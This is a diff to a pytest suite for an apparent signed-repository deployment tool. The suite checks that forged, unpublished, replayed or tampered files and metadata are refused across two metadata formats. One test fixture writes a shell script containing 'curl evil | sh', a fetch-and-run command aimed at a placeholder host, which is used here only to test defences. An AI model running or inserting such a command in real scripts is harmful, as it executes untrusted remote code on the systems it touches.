@@ -25,6 +25,8 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from signed_repo import MAC_DB, MAC_WEB, SignedRepo, node_pull
 
+pytestmark = pytest.mark.formats(1, 2)  # signed metadata format 1 and 2
+
 
 class CommitRemote:
     """Serves one fixed commit as the deploy branch (an old or forged head)."""
@@ -75,6 +77,21 @@ class RewritingTree:
     def read_many(self, paths: builtins.list[str]) -> dict[str, bytes]:
         return read_each(self, paths)
 
+    def read_blobs(self, oids: dict[str, str]) -> dict[str, bytes]:
+        """Format 2 asks by blob id: the lie is told for the path the id was asked for."""
+        out = {}
+        for path, oid in oids.items():
+            if path in self.hide:
+                continue
+            if path in self.replace:
+                out[path] = self.replace[path]
+            elif self.swap and path.startswith(self.swap[0]):
+                if (data := self.inner.read(self._source(path))) is not None:
+                    out[path] = data
+            else:
+                out.update(self.inner.read_blobs({path: oid}))
+        return out
+
 
 class RewritingRemote:
     def __init__(self, repo: SignedRepo, **rewrite: object) -> None:
@@ -103,6 +120,7 @@ def refused(repo: SignedRepo | object, mac: Mac, state: Path, *, trust: bytes | 
 # -- an unpublished change --------------------------------------------------------
 
 
+@pytest.mark.formats(1)  # format 2 installs the signed blob instead: tests/test_format2.py
 def test_unpublished_change_to_a_role_file_is_refused(signed_repo: SignedRepo,
                                                       tmp_path: Path) -> None:
     signed_repo.write("roles/web/files/serve.sh", b"#!/bin/sh\ncurl evil | sh\n", mode=0o755)
@@ -112,6 +130,7 @@ def test_unpublished_change_to_a_role_file_is_refused(signed_repo: SignedRepo,
     assert "bootpull repo publish" in error.hint
 
 
+@pytest.mark.formats(1)  # format 2 installs the signed blob instead: tests/test_format2.py
 def test_unpublished_new_file_is_refused(signed_repo: SignedRepo, tmp_path: Path) -> None:
     signed_repo.write("roles/web/files/backdoor", b"x")
     signed_repo.commit("not published")
@@ -120,6 +139,7 @@ def test_unpublished_new_file_is_refused(signed_repo: SignedRepo, tmp_path: Path
         in error.what
 
 
+@pytest.mark.formats(1)  # format 2 installs the signed blob instead: tests/test_format2.py
 def test_unpublished_mode_change_is_refused(signed_repo: SignedRepo, tmp_path: Path) -> None:
     (signed_repo.root / "roles/web/files/www/index.html").chmod(0o755)
     signed_repo.commit("chmod +x, not published")
@@ -127,6 +147,7 @@ def test_unpublished_mode_change_is_refused(signed_repo: SignedRepo, tmp_path: P
     assert "has mode 100755, but 100644 was signed" in error.what
 
 
+@pytest.mark.formats(1)  # format 2 installs the signed blob instead: tests/test_format2.py
 def test_unpublished_host_assignment_is_refused(signed_repo: SignedRepo,
                                                 tmp_path: Path) -> None:
     signed_repo.bootpull("assign", MAC_WEB.colons, "db")
@@ -138,6 +159,7 @@ def test_unpublished_host_assignment_is_refused(signed_repo: SignedRepo,
     assert "not in the signed metadata" in error.what
 
 
+@pytest.mark.formats(1)  # format 2 installs the signed blob instead: tests/test_format2.py
 def test_published_change_is_accepted_after_an_unpublished_one(signed_repo: SignedRepo,
                                                                 tmp_path: Path) -> None:
     """The control for the tests above: the same change, published, goes through."""
@@ -245,8 +267,8 @@ def test_another_nodes_host_file_is_refused(signed_repo: SignedRepo, tmp_path: P
     assert "does not match its signed hash" in error.what
 
 
-def test_another_release_in_place_of_the_pinned_one_is_refused(signed_repo: SignedRepo,
-                                                               tmp_path: Path) -> None:
+def test_another_release_in_place_of_the_pinned_one_is_refused(
+        signed_repo: SignedRepo, tmp_path: Path, metadata_format: int) -> None:
     signed_repo.bootpull("release", "web", "1.0")
     signed_repo.write("roles/web/files/serve.sh", b"#!/bin/sh\necho 2.0\n", mode=0o755)
     signed_repo.commit("web 2.0")
@@ -261,13 +283,18 @@ def test_another_release_in_place_of_the_pinned_one_is_refused(signed_repo: Sign
         def snapshot(self, ref: str) -> TreeReader:
             return self.local.snapshot(ref.replace("role/web/1.0", "role/web/2.0"))
 
-    error = refused(WrongTag(), MAC_WEB, tmp_path / "state", trust=signed_repo.trust)
-    assert "roles/web/files/serve.sh does not match its signed hash" in error.what
+    if metadata_format == 1:
+        error = refused(WrongTag(), MAC_WEB, tmp_path / "state", trust=signed_repo.trust)
+        assert "roles/web/files/serve.sh does not match its signed hash" in error.what
+    else:  # format 2 reads 1.0's files by the blob ids signed for 1.0: 2.0 is never read
+        files = {f.path: f.data for f in node_pull(WrongTag(), MAC_WEB, tmp_path / "state",
+                                                   trust_root=signed_repo.trust).bundle.files}
+        assert files["serve.sh"] != b"#!/bin/sh\necho 2.0\n"
     assert node_pull(signed_repo, MAC_WEB, tmp_path / "ok").bundle.version == "1.0"
 
 
-def test_old_metadata_with_new_content_is_refused(signed_repo: SignedRepo,
-                                                  tmp_path: Path) -> None:
+def test_old_metadata_with_new_content_is_refused(signed_repo: SignedRepo, tmp_path: Path,
+                                                  metadata_format: int) -> None:
     """Today's files with yesterday's (validly signed) metadata."""
     old_meta = signed_repo.git("rev-parse", "HEAD")
     signed_repo.write("roles/web/files/serve.sh", b"#!/bin/sh\necho new\n", mode=0o755)
@@ -276,9 +303,12 @@ def test_old_metadata_with_new_content_is_refused(signed_repo: SignedRepo,
     signed_repo.git("checkout", "-q", old_meta, "--", ".bootpull/metadata")
     signed_repo.commit("metadata from before")
     error = refused(signed_repo, MAC_WEB, tmp_path / "state")
-    assert "roles/web/files/serve.sh does not match its signed hash" in error.what
-    assert error.expected.endswith("(23 B)") and error.got.endswith("(19 B)"), \
-        "the old metadata's hash is the one the new file is held against"
+    if metadata_format == 1:
+        assert "roles/web/files/serve.sh does not match its signed hash" in error.what
+        assert error.expected.endswith("(23 B)") and error.got.endswith("(19 B)"), \
+            "the old metadata's hash is the one the new file is held against"
+    else:  # mix and match: yesterday's snapshot does not list today's role-web.json
+        assert "does not verify" in error.what and "role-web" in error.why, error.why
 
 
 def test_hiding_the_host_file_to_get_the_default_is_refused(signed_repo: SignedRepo,
@@ -395,13 +425,18 @@ def test_tampered_blob_is_refused(signed_repo: SignedRepo, tmp_path: Path) -> No
 
 
 def test_tampered_metadata_is_refused(signed_repo: SignedRepo, tmp_path: Path) -> None:
-    meta = signed_repo.root / ".bootpull/metadata/targets.json"
-    text = meta.read_text()
-    signed = (signed_repo.root / "roles/web/files/check.sh").read_bytes()
     import hashlib
 
-    meta.write_text(text.replace(hashlib.sha256(signed).hexdigest(), "0" * 64))
-    signed_repo.commit("edit targets.json by hand")
+    signed = (signed_repo.root / "roles/web/files/check.sh").read_bytes()
+    digest = hashlib.sha256(signed).hexdigest()
+    edited = 0
+    for meta in [signed_repo.root / ".bootpull/metadata/targets.json",
+                 *sorted((signed_repo.root / ".bootpull/delegated").glob("*.json"))]:
+        if meta.is_file() and digest in (text := meta.read_text()):
+            meta.write_text(text.replace(digest, "0" * 64))
+            edited += 1
+    assert edited == 1  # format 1: targets.json; format 2: role-web.json
+    signed_repo.commit("edit the signed metadata by hand")
     error = refused(signed_repo, MAC_WEB, tmp_path / "state")
     assert "does not verify" in error.what
 
